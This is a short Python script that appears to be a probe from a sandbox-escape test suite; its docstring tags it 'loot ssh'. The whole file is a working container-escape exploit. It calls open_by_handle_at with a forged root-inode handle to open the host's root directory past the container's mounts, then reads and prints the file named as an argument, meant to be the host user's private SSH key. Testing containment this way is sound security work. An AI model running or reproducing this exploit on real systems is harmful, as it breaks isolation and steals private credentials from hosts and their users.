"""Opens the root folder of the host's file system by its inode number, past every mount, and walks to the SSH key.

family: secrets
arguments: {home}/.ssh/id_rsa
judge: loot ssh
trace: open_by_handle_at
"""

import ctypes
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("IiII", 8, 1, 2, 0))
for place in (".", "/etc/hosts", "/etc/resolv.conf", "/"):
    try:
        mount = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    root = libc.open_by_handle_at(mount, handle, os.O_RDONLY | os.O_DIRECTORY)
    if root < 0:
        print(os.strerror(ctypes.get_errno()))
        continue
    try:
        with open(os.open(sys.argv[1].lstrip("/"), os.O_RDONLY, dir_fd=root)) as file:
            print(file.read())
    except OSError as error:
        print(error)
